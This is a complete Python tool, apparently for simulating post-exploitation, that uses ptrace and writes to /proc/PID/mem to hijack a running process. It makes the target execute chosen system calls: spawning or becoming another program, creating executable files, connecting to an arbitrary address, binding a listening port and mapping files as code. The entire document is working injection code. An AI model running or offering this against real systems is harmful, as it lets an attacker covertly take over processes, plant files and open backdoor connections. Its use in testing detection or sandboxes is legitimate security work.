"""Makes a running process do what its attacker wants, as an exploit of its memory would: system calls, made by itself.

    hijack.py PID exec PATH [ARG...]    forks; the child becomes that program
    hijack.py PID replace PATH [ARG...] becomes that program itself
    hijack.py PID read PATH             opens a file for reading
    hijack.py PID write PATH TEXT       makes a file
    hijack.py PID connect ADDRESS PORT  connects to an IPv4 address
    hijack.py PID map PATH              maps a file as code
    hijack.py PID bind PORT             listens
"""
import ctypes
import os
import signal
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
GETREGS, SETREGS, ATTACH, DETACH, SETOPTIONS, CONT, SYSCALL = 12, 13, 16, 17, 0x4200, 7, 24
TRACEFORK, TRACESYSGOOD = 2, 1
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"


class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in names.split()]


def ptrace(request, pid, address=None, data=None):
    if libc.ptrace(request, pid, address, data) < 0:
        raise OSError(ctypes.get_errno(), f"ptrace {request}")


class Victim:
    def __init__(self, pid):
        self.pid = pid
        ptrace(ATTACH, pid)
        os.waitpid(pid, 0x40000000)
        ptrace(SETOPTIONS, pid, None, TRACESYSGOOD)
        self.saved = self.registers()
        self.at = self.saved.rsp - 65536 & ~0xFFF
        self.gate = self.find_gate()

    def registers(self):
        found = Registers()
        ptrace(GETREGS, self.pid, None, ctypes.addressof(found))
        return found

    def find_gate(self):
        """A `syscall` instruction in code of its own."""
        with open(f"/proc/{self.pid}/maps") as maps, open(f"/proc/{self.pid}/mem", "rb") as memory:
            for line in maps:
                span, modes = line.split()[:2]
                if "x" not in modes or "[v" in line:
                    continue
                begin, end = (int(one, 16) for one in span.split("-"))
                memory.seek(begin)
                at = memory.read(min(end - begin, 8 << 20)).find(b"\x0f\x05")
                if at >= 0:
                    return begin + at
        raise SystemExit("no gate")

    def put(self, data):
        where = self.at
        self.at += len(data) + 15 & ~15
        fd = os.open(f"/proc/{self.pid}/mem", os.O_RDWR)
        os.pwrite(fd, data, where)
        os.close(fd)
        return where

    def text(self, value):
        return self.put(value.encode() + b"\0")

    def list(self, values):
        return self.put(struct.pack(f"{len(values) + 1}Q", *[self.text(one) for one in values], 0))

    def prepared(self, number, arguments):
        registers = Registers.from_buffer_copy(self.saved)
        registers.rip, registers.rax, registers.orig_rax = self.gate, number, 0xFFFFFFFFFFFFFFFF
        registers.rsp = self.at + 8192 & ~15
        for name, value in zip(["rdi", "rsi", "rdx", "r10", "r8", "r9"], arguments):
            setattr(registers, name, value & 0xFFFFFFFFFFFFFFFF)
        return registers

    def call(self, number, *arguments):
        registers = self.prepared(number, arguments)
        ptrace(SETREGS, self.pid, None, ctypes.addressof(registers))
        for _ in range(2):  # entry, exit
            while True:
                ptrace(SYSCALL, self.pid)
                _, status = os.waitpid(self.pid, 0x40000000)
                if os.WIFEXITED(status) or os.WIFSIGNALED(status):
                    raise SystemExit("it died")
                if os.WSTOPSIG(status) == signal.SIGTRAP | 0x80:
                    break
        return ctypes.c_longlong(self.registers().rax).value

    def become(self, path, arguments):
        registers = self.prepared(59, [self.text(path), self.list(arguments), self.list(["PATH=/usr/bin:/bin"])])
        ptrace(SETREGS, self.pid, None, ctypes.addressof(registers))
        ptrace(DETACH, self.pid)

    def release(self):
        ptrace(SETREGS, self.pid, None, ctypes.addressof(self.saved))
        ptrace(DETACH, self.pid)


def spawn(victim, path, arguments):
    ptrace(SETOPTIONS, victim.pid, None, TRACEFORK | TRACESYSGOOD)
    registers = victim.prepared(56, [signal.SIGCHLD, 0, 0, 0, 0])
    ptrace(SETREGS, victim.pid, None, ctypes.addressof(registers))
    ptrace(CONT, victim.pid)
    os.waitpid(victim.pid, 0x40000000)  # Stopped at the fork; the child is stopped too.
    message = ctypes.c_ulong()
    ptrace(0x4201, victim.pid, None, ctypes.addressof(message))
    child = object.__new__(Victim)
    child.pid, child.saved, child.at, child.gate = message.value, victim.saved, victim.at, victim.gate
    os.waitpid(child.pid, 0x40000000)
    child.become(path, arguments)
    victim.release()


def main(pid, verb, *given):
    victim = Victim(int(pid))
    match verb:
        case "exec":
            return spawn(victim, given[0], given)
        case "replace":
            return victim.become(given[0], given)
        case "read":
            result = victim.call(2, victim.text(given[0]), 0, 0)
        case "write":
            result = victim.call(2, victim.text(given[0]), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
            data = given[1].encode()
            victim.call(1, result, victim.put(data), len(data))
            victim.call(3, result)
        case "connect":
            result = victim.call(41, socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK, 0)
            place = struct.pack("<H", socket.AF_INET) + struct.pack(">H", int(given[1])) + socket.inet_aton(given[0]) + bytes(8)
            victim.call(42, result, victim.put(place), 16)
        case "bind":
            opened = victim.call(41, socket.AF_INET, socket.SOCK_STREAM, 0)
            place = struct.pack("<H", socket.AF_INET) + struct.pack(">H", int(given[0])) + bytes(12)
            result = victim.call(49, opened, victim.put(place), 16)
            victim.call(50, opened, 1)
        case "map":
            opened = victim.call(2, victim.text(given[0]), 0, 0)
            result = victim.call(9, 0, 4096, 5, 2, opened, 0)
    victim.release()
    if -4096 < result < 0 and verb != "connect":
        raise SystemExit(f"{verb}: {os.strerror(-result)}")


main(*sys.argv[1:])
